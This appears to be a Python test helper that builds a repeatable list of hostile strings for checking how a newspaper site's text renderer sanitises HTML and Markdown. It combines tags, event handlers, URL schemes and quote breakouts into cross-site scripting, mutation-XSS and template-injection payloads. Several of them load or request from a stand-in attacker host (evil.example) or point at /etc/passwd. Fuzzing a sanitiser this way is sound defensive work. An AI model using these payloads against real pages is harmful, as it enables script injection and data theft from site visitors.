"""Hostile strings by a grammar of known tricks: how to get script, a request or a layout into a page from a newspaper's text."""

from __future__ import annotations

import itertools
import random
from collections.abc import Iterator

CALLS = (
    "alert(1)",
    "window.ran=1",
    "fetch('//evil.example/')",
    "document.title='ran'",
    "import('//evil.example/x.js')",
)
EVENTS = (
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "ontoggle",
    "onanimationstart",
    "onbeforetoggle",
    "onpointerenter",
)
ELEMENTS = (
    "script", "img", "svg", "iframe", "object", "embed", "video", "audio", "math", "style", "link", "meta", "base", "form",
    "input", "button", "details", "marquee", "template", "noscript", "textarea", "title", "xmp", "plaintext", "frameset", "portal",
)  # fmt: skip
SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\x01javascript:", "javascript&colon;", "&#106;avascript:",
    "&#x6A;avascript:", "data:text/html,", "data:text/html;base64,", "data:image/svg+xml,", "vbscript:", "file:///etc/passwd#", "blob:",
    "//evil.example/", "\\\\evil.example\\", "/\\evil.example/", "https:evil.example/", "view-source:", "feed:javascript:", "ws://evil.example/",
)  # fmt: skip
QUOTES = (
    "",
    '"',
    "'",
    "`",
    '">',
    "'>",
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</svg>",
    "&quot;>",
    '\x00">',
)
WRAPS = (
    "{}", "<{}", "[x]({})", "![x]({})", "![{}](x)", "[{}](http://a.example)", "<{}>", "`{}`", "```\n{}\n```", "    {}", "> {}", "- {}",
    "| a |\n| - |\n| {} |", "[x]: {}\n\n[x]", "# {}", "[^1]\n\n[^1]: {}", "**{}**", "<!-- {} -->", "<![CDATA[{}]]>", "<?xml {}?>", "&lt;{}&gt;",
    "[x](<{}>)", '[x](http://a.example "{}")', "![x](../../../media/ab/abcdefabcdef.png \"{}\")", "<div>\n{}\n</div>", "\u202e{}\u202c", "{{{{ {} }}}}",
)  # fmt: skip


def _payloads() -> Iterator[str]:
    for element, event, call in itertools.product(ELEMENTS, EVENTS[:3], CALLS[:2]):
        yield f"<{element} src=x {event}={call}>"
        yield f"<{element}/{event}={call}//"
    for element, call in itertools.product(ELEMENTS, CALLS):
        yield f"<{element}>{call}</{element}>"
    for scheme, call in itertools.product(SCHEMES, CALLS):
        yield f"{scheme}{call}"
        yield f"<a href='{scheme}{call}'>x</a>"
        yield f'<img src="{scheme}{call}">'
    for quote, event, call in itertools.product(QUOTES, EVENTS, CALLS[:2]):
        yield f"{quote} {event}={call} x="
    yield from (
        "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><a xlink:href=javascript:alert(1)><text>x",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<style>@import '//evil.example/x.css';</style>", "<meta http-equiv=refresh content='0;url=//evil.example/'>", "<base href=//evil.example/>",
        "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=prefetch href=//evil.example/x>", "<img srcset='//evil.example/x 1x'>",
        "<iframe srcdoc='<script>alert(1)</script>'>", "<a href=http://a.example ping=//evil.example/>x</a>", "<div style='background:url(//evil.example/x)'>",
        "<p id=text name=backissueReader>", "<a id=q><a id=q name=x>", "<input name=action autofocus onfocus=alert(1)>", "<dialog open><form method=dialog>",
        "</main></body></html><script>alert(1)</script>", "\u2028alert(1)\u2029", "<\x00script>alert(1)</script>", "\ufeff<script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>", "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)", "<img src=x:alert(alt) onerror=eval(src) alt=x>",
        "$(alert(1))", "${alert(1)}", "{{constructor.constructor('alert(1)')()}}", "<%= 7*7 %>", "{% raw %}", "{{ 7*7 }}", "']};alert(1)//", "*/alert(1)/*",
    )  # fmt: skip


def strings(count: int, seed: int = 20260101) -> list[str]:
    """``count`` different hostile strings, the same ones every time."""
    payloads = list(dict.fromkeys(_payloads()))
    rng = random.Random(seed)
    found = dict.fromkeys(payloads)
    pairs = list(itertools.product(WRAPS[1:], payloads))
    rng.shuffle(pairs)
    for wrap, payload in pairs:
        if len(found) >= count:
            break
        found[wrap.format(payload)] = None
    return list(found)[:count]
